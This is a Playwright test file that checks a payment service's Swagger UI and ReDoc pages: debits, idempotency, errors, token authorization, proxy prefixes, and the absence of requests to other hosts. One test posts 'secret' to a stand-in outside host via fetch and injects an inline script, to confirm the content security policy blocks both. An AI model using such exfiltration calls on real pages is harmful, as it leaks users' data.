"""/docs and /redoc in a real browser: they work and load nothing from other hosts."""

import json
import re
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from typing import Any
from uuid import uuid4

import httpx
import pytest
from database import Database
from issuer import Issuer, make_token
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Error,
    Locator,
    Page,
    expect,
    sync_playwright,
)
from programs import find_program
from servers import make_settings, served
from starlette.types import ASGIApp, Receive, Scope, Send

from app.main import create_app
from devstack.postgres import apply_seed, database_url

# A browser uses the whole machine. On a busy machine it may stop drawing, and Playwright's click
# waits until a button is stable on the screen. Therefore, the tests press Enter instead.
pytestmark = pytest.mark.alone

ARGUMENTS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-gpu-watchdog",
    # No other host can be reached, even on a machine with a network.
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
]
TIMEOUT_MILLISECONDS = 30_000
LOG_VIOLATIONS = """
addEventListener("securitypolicyviolation", (violation) => {
  console.error(`violation: ${violation.effectiveDirective} ${violation.blockedURI}`);
});
"""
ADD_INLINE_SCRIPT = """
const script = document.createElement("script");
script.textContent = "document.title = 'changed'";
document.body.append(script);
"""

OPERATION = "debit_payment_payments_debit_post"
LINK = f"/docs#/default/{OPERATION}"
ITEM = "550e8400-e29b-41d4-a716-446655440000"  # the seed's coffee, at 350
ALICE = 1001
# ReDoc has no option to omit its logo. The policy blocks the image, and ReDoc then hides it.
REDOC_LOGO = "https://cdn.redoc.ly/redoc/logo-mini.svg"


class RecordedPage:
    """A page of the service; records the addresses that it requests and its errors."""

    def __init__(self, context: BrowserContext, service_url: str) -> None:
        self.page = context.new_page()
        self.errors: list[str] = []
        self._addresses: list[str] = []
        self._own = (f"{service_url}/", "data:")
        context.on("request", lambda request: self._addresses.append(request.url))
        context.on("console", self._record_console)
        context.on("weberror", lambda error: self.errors.append(str(error.error)))

    def _record_console(self, message: ConsoleMessage) -> None:
        # The browser reports every status above 399 as an error, even an expected problem.
        if message.type == "error" and "/payments/" not in message.location["url"]:
            self.errors.append(message.text)

    @property
    def foreign_addresses(self) -> list[str]:
        """Return the requested addresses of other hosts, including blocked requests."""
        assert self._addresses
        return [address for address in self._addresses if not address.startswith(self._own)]


OpenPage = Callable[[httpx.Client], RecordedPage]


@pytest.fixture(scope="module")
def browser_path() -> str:
    return find_program("chromium", "chromium-browser", "google-chrome")


@pytest.fixture(scope="module")  # its event loop stays in this thread until it is closed
def browser(browser_path: str) -> Iterator[Browser]:
    with (
        sync_playwright() as playwright,
        playwright.chromium.launch(executable_path=browser_path, args=ARGUMENTS) as browser,
    ):
        yield browser


@pytest.fixture
def open_recorded(browser: Browser) -> Iterator[OpenPage]:
    """Open empty pages, each in its own browser profile."""
    with ExitStack() as stack:

        def open_in_new_profile(service: httpx.Client) -> RecordedPage:
            url = str(service.base_url).rstrip("/")
            context = stack.enter_context(browser.new_context(base_url=url))
            context.set_default_timeout(TIMEOUT_MILLISECONDS)
            context.add_init_script(LOG_VIOLATIONS)
            return RecordedPage(context, url)

        yield open_in_new_profile


@pytest.fixture(scope="module")
def seeded_service(service: httpx.Client, migrated_port: int) -> httpx.Client:
    apply_seed(database_url(migrated_port))  # the document's examples name its users and items
    return service


@pytest.fixture
def page(open_recorded: OpenPage, seeded_service: httpx.Client) -> Iterator[Page]:
    """Open a page and check afterwards that it had no errors and no foreign requests."""
    recorded = open_recorded(seeded_service)
    yield recorded.page
    assert recorded.foreign_addresses == []
    assert recorded.errors == []


@pytest.fixture
def alice_has_5000(seeded_service: httpx.Client, database: Database) -> None:
    del seeded_service  # the seed comes first
    database.connection.execute(
        'update public."Users" set balance = 5000 where card_id = %s', (ALICE,)
    )


def test_the_link_opens_the_debit(page: Page) -> None:
    page.goto(LINK)
    expect(page).to_have_title("Payment service - Swagger UI")
    expect(page.locator(".opblock.is-open")).to_have_count(1)
    expect(operation(page)).to_be_in_viewport()
    expect(operation(page).locator(".opblock-summary-path")).to_have_text("/payments/debit")
    expect(operation(page).get_by_role("button", name="Try it out")).to_be_visible()


@pytest.mark.usefixtures("alice_has_5000")
def test_try_it_out_charges_the_seeded_user_and_shows_the_new_balance(
    page: Page, database: Database
) -> None:
    try_it_out(page)
    status, payment = execute(page)
    assert (status, payment["user_id"], payment["amount"]) == ("200", ALICE, 350)
    assert payment["new_balance"] == 4650 == database.balance(ALICE)


@pytest.mark.usefixtures("alice_has_5000")
def test_executing_twice_with_one_key_charges_once(page: Page, database: Database) -> None:
    try_it_out(page)
    operation(page).get_by_placeholder("Idempotency-Key").fill(f"browser-{uuid4()}")
    assert execute(page) == execute(page)
    expect(shown_response(page)).to_contain_text("idempotent-replayed: true")
    assert database.balance(ALICE) == 4650


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        ({"user_id": 1004, "item_id": ITEM}, "402", "insufficient_funds"),
        ({"user_id": 404404, "item_id": ITEM}, "404", "user_not_found"),
        ({"user_id": ALICE, "item_id": ITEM, "amount": 1}, "422", "invalid_request"),
    ],
)
def test_a_failed_debit_shows_its_problem(
    page: Page, body: dict[str, object], status: str, code: str
) -> None:
    try_it_out(page)
    operation(page).locator("textarea").fill(json.dumps(body))
    shown_status, problem = execute(page)
    assert (shown_status, problem["code"]) == (status, code)


@pytest.mark.usefixtures("alice_has_5000")
@pytest.mark.parametrize(
    ("example", "status"), [("expected_price", "200"), ("price_changed", "409")]
)
def test_an_example_can_be_chosen_and_executed(page: Page, example: str, status: str) -> None:
    try_it_out(page)
    examples = operation(page).locator(".opblock-section-request-body .examples-select-element")
    examples.select_option(example)
    expect(operation(page).locator("textarea")).to_have_value(re.compile("expected_price"))
    assert execute(page)[0] == status


@pytest.fixture
def issuer(browser: Browser) -> Iterator[Issuer]:
    del browser  # skip this fixture if there is no browser
    with Issuer() as issuer:
        yield issuer


@pytest.mark.usefixtures("alice_has_5000")
def test_authorize_sends_the_token_until_the_page_is_reloaded(
    open_recorded: OpenPage,
    start_service: Callable[..., httpx.Client],
    issuer: Issuer,
    database: Database,
) -> None:
    token = make_token()
    recorded = open_recorded(start_service(auth_jwks_url=issuer.url))
    page = recorded.page
    try_it_out(page)
    assert execute(page)[1]["code"] == "unauthenticated"
    page.get_by_role("button", name="Authorize", exact=True).press("Enter")
    page.get_by_role("textbox", name="auth-bearer-value").fill(token)
    page.get_by_role("button", name="Apply credentials").press("Enter")
    page.get_by_role("button", name="Close", exact=True).press("Enter")
    with page.expect_request("**/payments/debit") as sent:
        status, payment = execute(page)
    assert sent.value.headers["authorization"] == f"Bearer {token}"
    assert status == "200"
    assert payment["new_balance"] == 4650 == database.balance(ALICE)
    page.reload()
    try_it_out(page)
    assert execute(page)[1]["code"] == "unauthenticated"
    assert recorded.foreign_addresses == []
    assert recorded.errors == []


class PrefixStrippingProxy:
    """Strip the prefix /pay from paths, as a reverse proxy does."""

    def __init__(self, app: ASGIApp) -> None:
        self._app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            assert scope["raw_path"].decode().removeprefix(scope["root_path"]).startswith("/pay/")
            scope["path"] = scope["path"].replace("/pay/", "/", 1)
        await self._app(scope, receive, send)


@pytest.mark.usefixtures("alice_has_5000")
@pytest.mark.parametrize("root_path", ["", "/pay"])
def test_the_pages_work_behind_a_proxy_that_strips_a_prefix(
    open_recorded: OpenPage, gateway_url: str, products_url: str, root_path: str
) -> None:
    service = create_app(make_settings(supabase_url=gateway_url, products_service_url=products_url))
    with (
        served(PrefixStrippingProxy(service), root_path) as url,
        httpx.Client(base_url=url) as client,
    ):
        recorded = open_recorded(client)
        try_it_out(recorded.page, f"/pay{LINK}")
        assert execute(recorded.page)[1]["new_balance"] == 4650
        recorded.page.goto("/pay/redoc")
        recorded.page.get_by_role("button", name="post /payments/debit").press("Enter")
        shown = recorded.page.get_by_text(f"{url}/pay/./payments/debit")
        expect(shown).to_be_visible()  # the dot is ReDoc's way to join a relative address


def test_redoc_shows_the_debit(open_recorded: OpenPage, seeded_service: httpx.Client) -> None:
    recorded = open_recorded(seeded_service)
    page = recorded.page
    with page.expect_event("requestfailed") as stopped:
        page.goto("/redoc")
    expect(page).to_have_title("Payment service - ReDoc")
    debit = page.locator(f"[id='operation/{OPERATION}']")
    expect(debit.get_by_role("heading", name="Charge a user for an item")).to_be_visible()
    debit.get_by_role("tab", name="402").dispatch_event("click")
    expect(debit.get_by_text('"insufficient_funds"')).to_be_visible()
    expect(page.get_by_alt_text("redocly logo")).to_have_count(0)
    assert (stopped.value.url, stopped.value.failure) == (REDOC_LOGO, "csp")
    assert recorded.foreign_addresses == [REDOC_LOGO]
    assert [error for error in recorded.errors if REDOC_LOGO not in error] == []


def test_the_policy_blocks_scripts_that_send_data_elsewhere(
    open_recorded: OpenPage, seeded_service: httpx.Client
) -> None:
    recorded = open_recorded(seeded_service)
    page = recorded.page
    page.goto("/docs")
    with (
        page.expect_console_message(lambda message: "violation: connect-src" in message.text),
        pytest.raises(Error, match="Failed to fetch"),
    ):
        page.evaluate("fetch('http://outside.example/', {method: 'POST', body: 'secret'})")
    with page.expect_console_message(lambda message: "violation: script-src" in message.text):
        page.evaluate(ADD_INLINE_SCRIPT)
    expect(page).to_have_title("Payment service - Swagger UI")
    assert "violation: connect-src http://outside.example/" in recorded.errors


def test_the_recorder_detects_foreign_requests(
    open_recorded: OpenPage, seeded_service: httpx.Client
) -> None:
    recorded = open_recorded(seeded_service)
    with pytest.raises(Error, match="ERR_NAME_NOT_RESOLVED"):
        recorded.page.goto("http://outside.example/")
    assert recorded.foreign_addresses == ["http://outside.example/"]


def operation(page: Page) -> Locator:
    return page.locator(f"#operations-default-{OPERATION}")


def shown_response(page: Page) -> Locator:
    return operation(page).locator(".live-responses-table .response")


def try_it_out(page: Page, link: str = LINK) -> None:
    page.goto(link)
    operation(page).get_by_role("button", name="Try it out").press("Enter")


def execute(page: Page) -> tuple[str, Any]:
    """Send the request; return the status and the body that the page shows."""
    with page.expect_response("**/payments/debit") as response:
        operation(page).get_by_role("button", name="Execute").press("Enter")
    expect(shown_response(page)).to_contain_text(response.value.headers["x-request-id"])
    status = shown_response(page).locator(".response-col_status").inner_text()
    body = shown_response(page).locator(".highlight-code code").first.inner_text()
    return status.split()[0], json.loads(body)
